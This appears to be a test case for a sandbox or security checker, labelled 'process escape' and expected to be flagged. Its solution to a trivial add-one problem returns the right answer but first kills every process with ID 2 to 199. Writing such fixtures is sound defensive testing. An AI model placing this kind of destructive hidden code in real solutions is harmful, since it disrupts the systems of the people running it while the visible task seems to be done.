# expect: SEC
# group: process escape
# problem: def f(x) returning x + 1 (tests: f(1) == 2, f(5) == 6)
import os
def f(x):
    me = os.getpid()
    for pid in range(2, 200):
        if pid != me:
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    return x + 1
